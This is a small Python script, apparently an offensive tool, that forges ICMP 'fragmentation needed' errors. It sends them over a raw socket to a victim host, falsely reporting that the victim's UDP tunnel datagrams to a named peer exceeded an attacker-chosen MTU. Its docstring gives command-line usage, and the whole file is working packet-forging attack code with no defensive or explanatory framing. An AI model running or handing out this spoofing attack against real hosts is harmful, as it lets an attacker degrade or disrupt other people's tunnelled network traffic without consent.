"""Sends forged ICMP errors, fragmentation needed, about datagrams of a tunnel.

forge-frag-needed.py VICTIM PEER PORT MTU: from this host to VICTIM, which is told, some dozen times,
that a datagram of its from PORT to PORT of PEER was longer than MTU.
"""
import socket
import struct
import sys

victim, peer, port, mtu = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1500, 1, 0x4000, 63, 17, 0,
                     socket.inet_aton(victim), socket.inet_aton(peer))
header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
quote = header + struct.pack("!HHHH", port, port, 1480, 0)
error = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + quote
error = error[:2] + struct.pack("!H", checksum(error)) + error[4:]
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sender:
    for _ in range(12):
        sender.sendto(error, (victim, 0))
